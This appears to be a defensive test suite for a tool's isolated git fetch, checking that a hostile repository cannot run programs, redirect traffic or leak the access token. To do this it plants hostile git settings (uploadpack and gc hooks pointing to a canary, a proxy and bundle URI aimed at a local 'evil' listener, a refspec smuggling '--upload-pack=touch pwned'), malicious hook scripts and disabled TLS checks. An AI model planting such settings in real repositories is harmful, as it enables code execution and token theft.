import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { appendFile, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { Secret } from '../../src/shared/secret.ts';
import { makeCertificates } from '../sandbox/certificates.ts';
import { runGit, tokenHeader, type WorkTree } from '../sandbox/workTree.ts';
import { canaryFor } from './canary.ts';
import { type EvilListener, formsOfToken, holdsToken, startEvilListener } from './evilListener.ts';
import { type FetchStage, startFetchStage } from './fetchStage.ts';
import { type Arranged, attacks } from './hostileAttacks.ts';

const url = 'https://github.com/acme/app.git';

type Attack = readonly [
  string,
  (arranged: Arranged) => Promise<unknown>,
  'fetched' | 'remoteRefused' | 'noTrackingRefs',
];

/** What the catalogue of the push has no word for: a fetch has programs and settings of its own. */
const ofFetch: readonly Attack[] = [
  [
    'A10 remote.origin.uploadpack and the programs of a fetch',
    async ({ tree, canary, evil }) => {
      // git asks a repository that it borrows from for its refs, with the program named here.
      const lender = join(tree.folder, '..', `${basename(tree.folder)}-lender.git`);
      await runGit(tree.folder, ['init', '--quiet', '--bare', lender], tree.env);
      const alternates = join(tree.folder, '.git', 'objects', 'info', 'alternates');
      await writeFile(alternates, `${join(lender, 'objects')}\n`);
      for (const key of [
        'remote.origin.uploadpack',
        'remote.origin.receivepack',
        'core.alternateRefsCommand',
      ])
        await tree.git('config', key, canary);
      await tree.git('config', 'remote.origin.proxy', evil.url);
      await tree.git('config', 'remote.origin.promisor', 'false');
    },
    'fetched',
  ],
  [
    'fetch.* and transfer.* of the file',
    async ({ tree, evil, canary }) => {
      for (const [key, value] of [
        ['fetch.bundleURI', `${evil.url}/evil.bundle`],
        ['transfer.bundleURI', 'true'],
        ['fetch.uriProtocols', 'http,https'],
        ['fetch.prune', 'true'],
        ['fetch.recurseSubmodules', 'true'],
        ['fetch.writeCommitGraph', 'true'],
        ['fetch.unpackLimit', '1000000'],
        ['fetch.negotiationAlgorithm', 'noop'],
        ['remote.origin.tagOpt', '--tags'],
        ['remote.pushDefault', 'origin'],
        ['transfer.credentialsInUrl', 'allow'],
        ['gc.auto', '1'],
        ['gc.recentObjectsHook', canary],
      ] as const) {
        await tree.git('config', key, value);
      }
    },
    'fetched',
  ],
  [
    'A20 a refspec that would write branches and tags',
    async ({ tree }) => {
      await tree.git('config', 'remote.origin.fetch', '+refs/*:refs/*');
      await tree.git(
        'config',
        '--add',
        'remote.origin.fetch',
        '+refs/heads/*:refs/remotes/origin/../../heads/*',
      );
      await tree.git('config', '--add', 'remote.origin.fetch', '--upload-pack=touch pwned');
    },
    'noTrackingRefs',
  ],
];

/** Push addresses and push settings have no say in a fetch. */
const shared = attacks.filter(([title]) => !/^A02|^A11 push/.test(title));

const both: readonly Attack[] = [
  ...shared.map(
    ([title, arrange, expected]): Attack => [
      title,
      arrange,
      expected === 'remoteRefused' ? 'remoteRefused' : 'fetched',
    ],
  ),
  ...ofFetch,
];

describe('a hostile repository and a fetch', function () {
  this.timeout(60_000);
  let stage: FetchStage;
  let evil: EvilListener;
  before(async () => {
    stage = await startFetchStage();
    const { untrusted } = await makeCertificates(['github.com']);
    evil = await startEvilListener({ certificate: untrusted });
  });
  after(async () => {
    await evil.close();
    await stage.close();
  });
  afterEach(async () => {
    stage.stage.sandbox.faults.clear();
    assert.equal(holdsToken(evil.heard(), stage.stage.token.value), false, 'the listener heard the token');
    assert.deepEqual(await stage.stage.leftovers(), [], 'an isolated repository was left behind');
  });

  let serial = 0;
  /** A clone, and one commit on the server that it does not have. */
  async function behind(): Promise<WorkTree> {
    const branch = `behind-${serial++}`;
    const tree = await stage.stage.tree(branch);
    await stage.serverCommits({ branch, from: 'main', message: 'Theirs', files: { 'theirs.txt': branch } });
    return tree;
  }

  const canaryIn = (tree: WorkTree) => canaryFor(stage.stage.sandbox.folder, tree);

  for (const [title, arrange, expected] of both) {
    it(`${title}: ${expected === 'fetched' ? 'has no say, the fetch comes from its own place' : 'is refused before git starts'}`, async () => {
      const tree = await behind();
      const twin = expected === 'fetched' ? await stage.look(await stage.witness(tree)) : undefined;
      const canary = await canaryIn(tree);
      await arrange({ tree, evil, canary: canary.program });
      const heard = evil.connections();
      const requests = stage.stage.sandbox.log.length;
      const plan = await stage.plan(tree);
      const outcome =
        plan.kind === 'fetch'
          ? await stage.fetch(tree).then(() => 'fetched')
          : plan.kind === 'refused'
            ? plan.problem.kind
            : plan.kind;
      assert.deepEqual(
        {
          outcome,
          connections: evil.connections() - heard,
          ran: await canary.marks(),
          requests: stage.stage.sandbox.log.length - requests,
        },
        { outcome: expected, connections: 0, ran: '', requests: expected === 'fetched' ? 3 : 0 },
      );
      if (twin === undefined) return;
      for (const key of ['core.fsmonitor', 'core.gitProxy']) await tree.git('config', '--unset', key);
      const after = await stage.look(tree.folder);
      assert.deepEqual([after.tracking, after.objects], [twin.tracking, twin.objects]);
    });
  }

  for (const status of [301, 302, 303, 307, 308] as const) {
    for (const method of ['GET', 'POST']) {
      it(`A06 a ${status} on ${method} is refused, its target hears nothing, and no ref moves`, async () => {
        const tree = await behind();
        await tree.git('config', 'http.followRedirects', 'true');
        await tree.git('config', '--global', 'http.followRedirects', 'true');
        const fault = { kind: 'redirect', status, to: `${evil.url}{path}` } as const;
        stage.stage.sandbox.faults.add({ method, fault });
        const heard = evil.connections();
        const before = await stage.look(tree.folder);
        const refused = await stage.refusal(tree);
        await tree.git('config', '--global', '--unset', 'http.followRedirects');
        assert.deepEqual([refused.problem, evil.connections() - heard], [{ kind: 'redirectRefused' }, 0]);
        assert.deepEqual(await stage.look(tree.folder), before);
      });
    }
  }

  it('A04 cannot loosen TLS', async () => {
    const tree = await behind();
    for (const prefix of ['http', `http.${url}`]) await tree.git('config', `${prefix}.sslVerify`, 'false');
    stage.stage.sandbox.faults.add({ fault: { kind: 'untrusted-certificate' } });
    const before = stage.stage.sandbox.log.length;
    const refused = await stage.refusal(tree, { env: { ...stage.stage.env, GIT_SSL_NO_VERIFY: '1' } });
    assert.deepEqual(
      [refused.problem, stage.stage.sandbox.log.length - before],
      [{ kind: 'tlsUntrusted' }, 0],
    );
  });

  it("A08 the person's own store and .netrc are neither asked nor told, also after a 401", async () => {
    const tree = await behind();
    const home = stage.stage.env.HOME ?? '';
    await writeFile(join(home, '.git-credentials'), 'https://someone@example.com\n');
    await writeFile(join(home, '.netrc'), 'machine github.com login mona password other\n', { mode: 0o600 });
    await tree.git('config', '--global', 'credential.helper', 'store');
    stage.stage.sandbox.faults.add({
      times: 1,
      fault: { kind: 'status', status: 401, headers: { 'www-authenticate': 'Basic realm="GitHub"' } },
    });
    const before = stage.stage.sandbox.log.length;
    const refused = await stage.refusal(tree);
    assert.deepEqual(
      [refused.problem, stage.stage.sandbox.log.length - before],
      [{ kind: 'badCredentials' }, 1],
    );
    await stage.fetch(tree);
    await tree.git('config', '--global', '--unset', 'credential.helper');
    assert.equal(await readFile(join(home, '.git-credentials'), 'utf8'), 'https://someone@example.com\n');
  });

  it('A09 none of its hooks runs, by whatever name and from wherever', async function () {
    if (process.platform === 'win32') this.skip();
    const tree = await behind();
    const canary = await canaryIn(tree);
    const names = [
      'reference-transaction',
      'post-merge',
      'post-checkout',
      'post-index-change',
      'pre-auto-gc',
      'post-rewrite',
      'pre-push',
      'post-update',
      'update',
    ];
    const evilHooks = join(tree.folder, '.evil');
    const own = join(tree.folder, '.git', 'hooks');
    for (const folder of [evilHooks, own]) {
      await mkdir(folder, { recursive: true });
      for (const name of names) {
        await writeFile(join(folder, name), `#!/bin/sh\nexec "${canary.program}" ${name}\n`, { mode: 0o755 });
      }
    }
    await stage.fetch(tree);
    await stage.serverCommits({ branch: 'again', from: 'main', message: 'Again', files: { a: 'a' } });
    await tree.git('config', 'core.hooksPath', evilHooks);
    const result = await stage.fetch(tree);
    assert.deepEqual([result.moved.length, await canary.marks()], [1, '']);
    await stage.onServer('branch', '-D', 'again');
  });

  it('C01 C02 nobody but the isolated git has the token, and none that has it reads the repository', async function () {
    if (process.platform !== 'linux') this.skip(); // Only /proc shows another process's environment.
    const tree = await behind();
    // So many that a git which lists them is seen.
    const head = (await tree.git('rev-parse', 'HEAD')).stdout.trim();
    const many = Array.from(
      { length: 60_000 },
      (_, i) => `${head} refs/many/${String(i).padStart(6, '0')}\n`,
    );
    await appendFile(join(tree.folder, '.git', 'packed-refs'), many.join(''));
    const { tempFolder, token } = stage.stage;
    const child = spawn(process.execPath, [join(import.meta.dirname, 'processSampler.ts')], {
      stdio: ['pipe', 'pipe', 'inherit'],
    });
    const lines: string[] = [];
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => lines.push(chunk));
    child.stdin.write(`${tempFolder}\n${process.pid}\n${formsOfToken(token.value).join('\n')}\n\n`);
    await once(child.stdout, 'data');
    stage.stage.sandbox.faults.add({ fault: { kind: 'latency', ms: 100 } });
    await stage.fetch(tree);
    child.stdin.end();
    await once(child, 'close');
    const { hits } = JSON.parse(lines.join('').replace('ready\n', '')) as {
      readonly hits: readonly {
        readonly where: string;
        readonly command: string;
        readonly isolated: boolean;
      }[];
    };
    assert.ok(
      hits.some(({ command }) => command.includes('git-remote-https')),
      'the sampler saw the one that has it',
    );
    assert.deepEqual(
      hits.filter(
        ({ where, isolated, command }) => where === 'argv' || !isolated || command.includes(tree.folder),
      ),
      [],
    );
  });

  it('C03 tracing that the person left on writes nothing', async () => {
    const tree = await behind();
    const traces = join(stage.stage.sandbox.folder, 'fetch-traces');
    await mkdir(traces);
    const names = ['GIT_TRACE', 'GIT_TRACE_CURL', 'GIT_TRACE_PACKET', 'GIT_TRACE2_EVENT', 'SSLKEYLOGFILE'];
    const env = {
      ...stage.stage.env,
      ...Object.fromEntries(names.map((name) => [name, join(traces, name)])),
      GIT_TRACE_REDACT: '0',
    };
    await stage.fetch(tree, { env });
    assert.deepEqual(await readdir(traces), []);
  });

  it('C04 a server that says the token back is redacted', async () => {
    const tree = await behind();
    stage.stage.sandbox.faults.add({ fault: { kind: 'echo-authorization', status: 403 } });
    const refused = await stage.refusal(tree);
    assert.match(refused.details, /remote: .*\[redacted\]/);
    assert.equal(holdsToken(refused.details, stage.stage.token.value), false);
  });

  it('C04 a credential that looks like nothing is redacted because it was used', async () => {
    const tree = await behind();
    const odd = 'kx9-lantern-harbour-plum-2231';
    const body = `plain ${odd} end\n`;
    const headers = { 'content-type': 'text/plain; charset=utf-8' };
    stage.stage.sandbox.faults.add({ fault: { kind: 'status', status: 403, body, headers } });
    const refused = await stage.refusal(tree, { secret: new Secret(odd) });
    assert.match(refused.details, /^remote: plain \[redacted\] end$/m);
  });

  /** The proof that the stage is armed. */
  it('and a fetch that trusts the repository is heard', async () => {
    const { untrusted } = await makeCertificates(['github.com']);
    const other = await startEvilListener({ certificate: untrusted });
    const tree = await behind();
    await tree.git('config', `http.${url}.proxy`, other.url);
    await tree.git('config', `http.${url}.sslVerify`, 'false');
    await runGit(tree.folder, ['fetch', '--quiet', 'origin'], {
      ...stage.stage.env,
      ...tokenHeader(url, stage.stage.token.value),
    });
    await other.close();
    assert.equal(holdsToken(other.heard(), stage.stage.token.value), true);
  });
});
